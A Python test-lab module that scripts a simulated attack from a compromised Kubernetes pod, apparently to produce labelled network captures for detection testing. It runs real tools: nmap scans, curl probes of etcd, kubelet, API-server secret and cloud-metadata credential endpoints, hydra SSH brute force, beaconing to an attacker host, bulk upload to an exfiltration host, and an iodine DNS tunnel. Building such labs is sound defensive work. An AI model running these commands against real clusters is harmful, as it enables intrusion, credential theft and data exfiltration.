"""The attacks, each a real tool run from the compromised pod, and the schedule they follow.

Each step returns the episodes it performed (technique, MITRE id, targets, tool, command,
and the wall-clock start and end measured around the tool). Every tool runs with a
subprocess timeout; every loop has a count.
"""

from __future__ import annotations

import contextlib
import random
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.lab import topology as T

REPO = Path(__file__).resolve().parents[2]  # the programs run as ``python -m tests.lab.programs``

KIND = {
    "ip_sweep": "lateral_movement",
    "port_scan": "lateral_movement",
    "control_plane_access": "lateral_movement",
    "metadata_api": "lateral_movement",
    "brute_force": "lateral_movement",
    "beaconing": "exfiltration",
    "bulk_exfiltration": "exfiltration",
    "dns_tunnel": "exfiltration",
}
MITRE = {
    "ip_sweep": "T1018",
    "port_scan": "T1046",
    "control_plane_access": "T1613",
    "metadata_api": "T1552.005",
    "brute_force": "T1110",
    "beaconing": "T1071",
    "bulk_exfiltration": "T1048",
    "dns_tunnel": "T1071.004",
}
LAB_TECHNIQUES = tuple(MITRE)
SCAN_PORTS = "1-1024,2379,2380,6443,8080,10250,10255,10256,10257,10259"


@dataclass(frozen=True)
class Pace:
    """How long and how much: full runs (the committed captures) and quick runs (the netns test)."""

    beacon_interval: float = 10.0
    beacon_jitter: float = 0.2
    beacon_count: int = 18
    hydra_words: int = 40
    tunnel_s: float = 90.0
    tunnel_upload: int = 96_000
    probe_lead_s: float = 40.0
    upload_bytes: int = 20_000_000
    min_gap_s: float = 30.0

    @classmethod
    def quick(cls, jitter: float = 0.2) -> Pace:
        return cls(
            beacon_interval=2.0,
            beacon_jitter=jitter,
            beacon_count=6,
            hydra_words=8,
            tunnel_s=30.0,
            tunnel_upload=12_000,
            probe_lead_s=5.0,
            upload_bytes=8_000_000,
            min_gap_s=3.0,
        )


@dataclass
class Attacker:
    """Runs tools inside the compromised pod's namespace and records what it did."""

    host: Any  # tests.support.netns.Host
    workdir: Path
    pace: Pace
    seed: int
    episodes: list[dict[str, Any]] = field(default_factory=list)
    log: Callable[[str], None] = print

    def tool(self, *args: str, timeout: float) -> subprocess.CompletedProcess[str]:
        self.log(f"  $ {' '.join(args)}")
        try:
            out = subprocess.run(
                self.host.cmd(*args), capture_output=True, text=True, timeout=timeout, check=False, cwd=REPO
            )
        except subprocess.TimeoutExpired as exc:
            self.log(f"  (timed out after {timeout:.0f}s)")
            return subprocess.CompletedProcess(list(args), -9, str(exc.stdout or ""), str(exc.stderr or ""))
        if out.returncode != 0:
            self.log(f"  (exit {out.returncode}) {(out.stderr or out.stdout)[-300:].strip()}")
        return out

    def episode(self, technique: str, tool: str, targets: list[str], start: float, command: str) -> None:
        self.episodes.append(
            {
                "technique": technique,
                "mitre": MITRE[technique],
                "kind": KIND[technique],
                "tool": tool,
                "targets": targets,
                "start": start,
                "end": time.time(),
                "command": command,
            }
        )

    # ------------------------------------------------------------------ the steps

    def ip_sweep(self) -> None:
        t0 = time.time()
        cmd = ["nmap", "-sn", "-n", "-T4", "--max-retries", "1", "10.0.0.0/27"]
        self.tool(*cmd, timeout=120)
        self.episode("ip_sweep", "nmap -sn", ["10.0.0.0/27"], t0, " ".join(cmd))

    def syn_scan(self) -> None:
        t0 = time.time()
        cmd = ["nmap", "-sS", "-n", "-T4", "--max-retries", "1", "-p", SCAN_PORTS, T.CONTROL_PLANE]
        self.tool(*cmd, timeout=180)
        self.episode("port_scan", "nmap -sS", [T.CONTROL_PLANE], t0, " ".join(cmd))

    def connect_scan(self) -> None:
        t0 = time.time()
        cmd = ["nmap", "-sT", "-n", "-T4", "--max-retries", "1", "-p", SCAN_PORTS, T.CONTROL_PLANE, T.NODE_B]
        self.tool(*cmd, timeout=180)
        self.episode("port_scan", "nmap -sT", [T.CONTROL_PLANE, T.NODE_B], t0, " ".join(cmd))

    def _curls(self, urls: list[str], extra: tuple[str, ...] = ()) -> str:
        cmds = []
        for url in urls:
            cmd = ["curl", "-sk", "-o", "/dev/null", "--max-time", "5", *extra, url]
            self.tool(*cmd, timeout=15)
            cmds.append(" ".join(cmd))
            time.sleep(0.5)
        return "; ".join(cmds)

    def etcd(self) -> None:
        t0 = time.time()
        base = f"https://{T.CONTROL_PLANE}"
        urls = [
            f"{base}:{T.ETCD_PORT}/version",
            f"{base}:{T.ETCD_PORT}/v2/keys/registry/secrets?recursive=true",
            f"{base}:{T.ETCD_PORT}/v3/kv/range",
            f"{base}:{T.ETCD_PEER_PORT}/members",
        ]
        cmd = self._curls(urls)
        self.episode(
            "control_plane_access",
            "curl (etcd)",
            [f"{T.CONTROL_PLANE}:2379", f"{T.CONTROL_PLANE}:2380"],
            t0,
            cmd,
        )

    def kubelet(self) -> None:
        t0 = time.time()
        urls = [
            f"https://{T.NODE_B}:{T.KUBELET_PORT}/pods",
            f"https://{T.NODE_B}:{T.KUBELET_PORT}/runningpods/",
            f"https://{T.CONTROL_PLANE}:{T.KUBELET_PORT}/pods",
        ]
        cmd = self._curls(urls)
        self.episode(
            "control_plane_access",
            "curl (kubelet)",
            [f"{T.NODE_B}:10250", f"{T.CONTROL_PLANE}:10250"],
            t0,
            cmd,
        )

    def api_server(self) -> None:
        t0 = time.time()
        base = f"https://{T.CONTROL_PLANE}"
        urls = [
            f"{base}:{T.API_PORT}/api/v1/secrets",
            f"{base}:{T.API_PORT}/api/v1/namespaces/kube-system/pods",
            f"{base}:{T.CONTROLLER_PORT}/healthz",
            f"{base}:{T.SCHEDULER_PORT}/healthz",
        ]
        cmd = self._curls(urls, ("-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.stolen"))
        self.episode("control_plane_access", "curl (API server)", [f"{T.CONTROL_PLANE}:6443"], t0, cmd)

    def metadata(self) -> None:
        t0 = time.time()
        base = f"http://{T.METADATA}"
        urls = [
            f"{base}/latest/meta-data/",
            f"{base}/latest/meta-data/iam/security-credentials/",
            f"{base}/latest/meta-data/iam/security-credentials/node-role",
            f"{base}/latest/user-data",
        ]
        cmd = self._curls(urls)
        self.episode("metadata_api", "curl", [T.METADATA], t0, cmd)

    def brute_force(self) -> None:
        """``hydra`` guessing SSH passwords against two nodes (a bounded word list, none right)."""
        rng = random.Random(f"{self.seed}-words")
        words = [
            f"{w}{rng.randrange(100)}" for w in ("admin", "root", "kube", "passw0rd", "qwerty", "letmein")
        ]
        words = (words * (self.pace.hydra_words // len(words) + 1))[: self.pace.hydra_words]
        wordlist = self.workdir / "words.txt"
        wordlist.write_text("\n".join(f"{w}-{i}" for i, w in enumerate(words)) + "\n")
        t0 = time.time()
        cmds = []
        for target in (T.NODE_A, T.NODE_B):
            cmd = [
                "hydra",
                "-l",
                "admin",
                "-P",
                str(wordlist),
                "-t",
                "4",
                "-w",
                "5",
                "-I",
                "-q",
                f"ssh://{target}",
            ]
            self.tool(*cmd, timeout=30 + 3 * self.pace.hydra_words)
            cmds.append(" ".join(cmd))
        self.episode("brute_force", "hydra ssh", [f"{T.NODE_A}:22", f"{T.NODE_B}:22"], t0, "; ".join(cmds))

    def beacon(self) -> None:
        p = self.pace
        url = f"http://{T.ATTACKER}/api/v2/checkin"
        t0 = time.time()
        cmd = [
            "python",
            "-m",
            "tests.lab.programs",
            "beacon",
            "--url",
            url,
            "--interval",
            str(p.beacon_interval),
            "--jitter",
            str(p.beacon_jitter),
            "--count",
            str(p.beacon_count),
            "--seed",
            str(self.seed),
            "--until",
            str(time.time() + p.beacon_count * p.beacon_interval * 1.6 + 30),
        ]
        import sys

        self.tool(sys.executable, *cmd[1:], timeout=p.beacon_count * p.beacon_interval * 1.6 + 60)
        self.episode(
            "beaconing",
            f"curl POST every {p.beacon_interval:.1f}s ±{p.beacon_jitter:.0%}",
            [T.ATTACKER],
            t0,
            f"{p.beacon_count} x curl -X POST {url}",
        )

    def bulk_upload(self) -> None:
        """A small connectivity check, then the upload to the same new address (as attackers do)."""
        p = self.pace
        dump = self.workdir / "dump.tar"
        dump.write_bytes(random.Random(self.seed).randbytes(p.upload_bytes))
        t0 = time.time()
        c1 = ["curl", "-sk", "-o", "/dev/null", "--max-time", "5", f"https://{T.EXFIL}/ping"]
        self.tool(*c1, timeout=15)
        time.sleep(p.probe_lead_s)
        c2 = [
            "curl",
            "-sk",
            "-o",
            "/dev/null",
            "--max-time",
            "90",
            "--limit-rate",
            "3M",
            "-T",
            str(dump),
            f"https://{T.EXFIL}/upload/db.tar",
        ]
        self.tool(*c2, timeout=100)
        dump.unlink(missing_ok=True)
        self.episode(
            "bulk_exfiltration",
            "curl -T",
            [T.EXFIL],
            t0,
            " ".join(c1) + f"; sleep {p.probe_lead_s:g}; " + " ".join(c2),
        )

    def dns_tunnel(self) -> None:
        """``iodine`` through the cluster DNS to the attacker's ``iodined``, and a file pushed through it."""
        p = self.pace
        t0 = time.time()
        cmd = ["iodine", "-f", "-r", "-P", "labsecret", T.CLUSTER_DNS, T.TUNNEL_DOMAIN]
        self.log(f"  $ {' '.join(cmd)} &")
        with open(self.workdir / "iodine.log", "ab") as out:
            proc = self.host.popen(*cmd, stdout=out, stderr=subprocess.STDOUT, cwd=REPO)
        try:
            deadline = t0 + min(40.0, p.tunnel_s)
            up = False
            while time.time() < deadline and proc.poll() is None:
                if "172.30.0." in self.host.run("ip", "-4", "addr", "show", check=False).stdout:
                    up = True
                    break
                time.sleep(0.5)
            self.log(f"  tunnel {'up' if up else 'NOT up'} after {time.time() - t0:.1f}s")
            if up:
                data = self.workdir / "secrets.bin"
                data.write_bytes(random.Random(self.seed + 1).randbytes(p.tunnel_upload))
                left = max(5.0, t0 + p.tunnel_s - time.time() - 5)
                self.tool(
                    "curl",
                    "-s",
                    "-o",
                    "/dev/null",
                    "--max-time",
                    f"{left:.0f}",
                    "--data-binary",
                    f"@{data}",
                    f"http://{T.TUNNEL_SERVER}/u",
                    timeout=left + 10,
                )
                data.unlink(missing_ok=True)
            while time.time() < t0 + p.tunnel_s * 0.5 and proc.poll() is None:
                time.sleep(0.5)  # the tunnel idles (iodine polls the server) for a while, as a live one would
        finally:
            proc.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(timeout=5)
            if proc.poll() is None:
                proc.kill()
                proc.wait(timeout=5)
        self.episode(
            "dns_tunnel",
            "iodine",
            [T.TUNNEL_DOMAIN, T.CLUSTER_DNS],
            t0,
            " ".join(cmd) + " + curl through the tunnel",
        )

    def steps(self) -> list[tuple[str, Callable[[], None], float]]:
        """(name, step, nominal seconds) in the order they run."""
        p = self.pace
        return [
            ("nmap -sn", self.ip_sweep, 10),
            ("nmap -sS", self.syn_scan, 10),
            ("nmap -sT", self.connect_scan, 15),
            ("etcd", self.etcd, 3),
            ("kubelet", self.kubelet, 3),
            ("api server", self.api_server, 3),
            ("metadata", self.metadata, 3),
            ("hydra", self.brute_force, 2 * p.hydra_words / 3),
            ("beacon", self.beacon, p.beacon_count * p.beacon_interval),
            ("bulk upload", self.bulk_upload, p.probe_lead_s + p.upload_bytes / 3e6),
            ("iodine", self.dns_tunnel, p.tunnel_s),
        ]
